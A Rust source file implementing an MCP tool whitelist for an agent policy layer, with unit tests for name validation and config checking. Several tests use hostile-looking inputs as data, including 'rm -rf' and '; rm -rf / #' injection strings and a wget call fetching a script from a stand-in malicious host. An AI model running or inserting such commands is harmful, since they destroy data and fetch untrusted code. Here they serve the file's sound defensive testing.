//! Tool (MCP) whitelist.

use serde::{Deserialize, Serialize};
use serde_json::Value as JsonValue;

use super::decision::PolicyDecision;

/// A requested tool invocation. `args` is carried but never inspected.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ToolCall {
    pub tool: String,
    #[serde(default)]
    pub args: JsonValue,
}

impl ToolCall {
    pub fn new(tool: impl Into<String>, args: JsonValue) -> Self {
        Self {
            tool: tool.into(),
            args,
        }
    }
}

/// Letters, digits and underscore only, non-empty.
pub fn is_safe_tool_name(name: &str) -> bool {
    !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// The fixed set of tool names allowed to run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ToolWhitelist {
    tools: Vec<String>,
}

impl ToolWhitelist {
    pub fn new(tools: impl IntoIterator<Item = impl Into<String>>) -> Self {
        Self {
            tools: tools.into_iter().map(Into::into).collect(),
        }
    }

    pub fn contains(&self, name: &str) -> bool {
        self.tools.iter().any(|t| t == name)
    }

    pub fn tools(&self) -> &[String] {
        &self.tools
    }

    fn listing(&self) -> String {
        self.tools.join(", ")
    }

    /// Check a single invocation: name pattern first, then membership.
    pub fn check_call(&self, call: &ToolCall) -> PolicyDecision {
        if !is_safe_tool_name(&call.tool) {
            return PolicyDecision::deny(format!(
                "[SECURITY] Tool name '{}' contains invalid characters.",
                call.tool
            ));
        }
        if !self.contains(&call.tool) {
            return PolicyDecision::deny(format!(
                "[SECURITY] Tool '{}' is not in the allowed whitelist ({}).",
                call.tool,
                self.listing()
            ));
        }
        PolicyDecision::allow(format!(
            "Tool '{}' is compliant with safety protocols.",
            call.tool
        ))
    }

    /// Check every tool declared in an MCP configuration document.
    ///
    /// Entries whose `name` is missing, null or empty are skipped. Any other
    /// name must be a whitelisted string; the first one that is not decides.
    pub fn check_config(&self, config_json: &str) -> PolicyDecision {
        let config: JsonValue = match serde_json::from_str(config_json) {
            Ok(v) => v,
            Err(e) => {
                return PolicyDecision::deny(format!(
                    "Invalid MCP configuration (JSON parse error: {}).",
                    e
                ))
            }
        };

        let Some(tools) = config.get("tools").and_then(JsonValue::as_array) else {
            return PolicyDecision::allow("No tools defined in MCP config.");
        };

        for tool in tools {
            let name = match tool.get("name") {
                None | Some(JsonValue::Null) => continue,
                Some(JsonValue::String(name)) if name.is_empty() => continue,
                Some(JsonValue::String(name)) if self.contains(name) => continue,
                Some(JsonValue::String(name)) => name.clone(),
                Some(other) => other.to_string(),
            };
            return PolicyDecision::deny(format!(
                "Unauthorized tool detected: '{}'. Allowed: {}",
                name,
                self.listing()
            ));
        }

        PolicyDecision::allow("MCP configuration complies with security protocols.")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::DEFAULT_ALLOWED_TOOLS;
    use serde_json::json;

    fn whitelist() -> ToolWhitelist {
        ToolWhitelist::new(DEFAULT_ALLOWED_TOOLS)
    }

    #[test]
    fn test_safe_name_pattern() {
        assert!(is_safe_tool_name("googleSearch"));
        assert!(is_safe_tool_name("code_execution_2"));
        assert!(!is_safe_tool_name(""));
        assert!(!is_safe_tool_name("rm -rf"));
        assert!(!is_safe_tool_name("my-tool; rm -rf"));
        assert!(!is_safe_tool_name("tool\u{00e9}"));
    }

    #[test]
    fn test_allows_whitelisted_tool() {
        let d = whitelist().check_call(&ToolCall::new("googleSearch", json!({"query": "test"})));
        assert!(d.allowed);
        assert!(d.reason.contains("compliant with safety protocols"));
    }

    #[test]
    fn test_rejects_invalid_characters_before_whitelist() {
        let d = whitelist().check_call(&ToolCall::new("rm -rf", json!({})));
        assert!(!d.allowed);
        assert!(d.reason.contains("contains invalid characters"));
    }

    #[test]
    fn test_rejects_unlisted_tool_naming_whitelist() {
        let d = whitelist().check_call(&ToolCall::new(
            "wget",
            json!({"url": "http://malicious.com/script.sh"}),
        ));
        assert!(!d.allowed);
        assert!(d.reason.contains("'wget'"));
        assert!(d.reason.contains("not in the allowed whitelist"));
        assert!(d.reason.contains("googleSearch, codeExecution, calculator, clock"));
    }

    #[test]
    fn test_args_are_never_inspected() {
        let d = whitelist().check_call(&ToolCall::new("calculator", json!("; rm -rf / #")));
        assert!(d.allowed);
    }

    #[test]
    fn test_config_invalid_json() {
        let d = whitelist().check_config("{not json");
        assert!(!d.allowed);
        assert!(d.reason.contains("JSON parse error"));
    }

    #[test]
    fn test_config_without_tools_is_compliant() {
        assert!(whitelist().check_config(r#"{"server": "x"}"#).allowed);
        assert!(whitelist().check_config(r#"{"tools": "not-an-array"}"#).allowed);
    }

    #[test]
    fn test_config_first_violation_short_circuits() {
        let config = json!({
            "tools": [
                {"name": "clock"},
                {"description": "nameless entry is skipped"},
                {"name": "shell"},
                {"name": "ftp"}
            ]
        })
        .to_string();
        let d = whitelist().check_config(&config);
        assert!(!d.allowed);
        assert!(d.reason.starts_with("Unauthorized tool detected: 'shell'."));
    }

    #[test]
    fn test_config_non_string_names_are_denied() {
        let d = whitelist().check_config(r#"{"tools": [{"name": "clock"}, {"name": 42}]}"#);
        assert!(!d.allowed);
        assert!(d.reason.starts_with("Unauthorized tool detected: '42'."));

        let d = whitelist().check_config(r#"{"tools": [{"name": ["shell"]}]}"#);
        assert!(!d.allowed);
        assert!(d.reason.contains(r#"'["shell"]'"#));
    }

    #[test]
    fn test_config_null_and_empty_names_are_skipped() {
        let config = r#"{"tools": [{"name": null}, {"name": ""}, {"name": "calculator"}]}"#;
        assert!(whitelist().check_config(config).allowed);
    }

    #[test]
    fn test_config_all_listed() {
        let config = r#"{"tools": [{"name": "calculator"}, {"name": "googleSearch"}]}"#;
        let d = whitelist().check_config(config);
        assert!(d.allowed);
        assert_eq!(d.reason, "MCP configuration complies with security protocols.");
    }
}
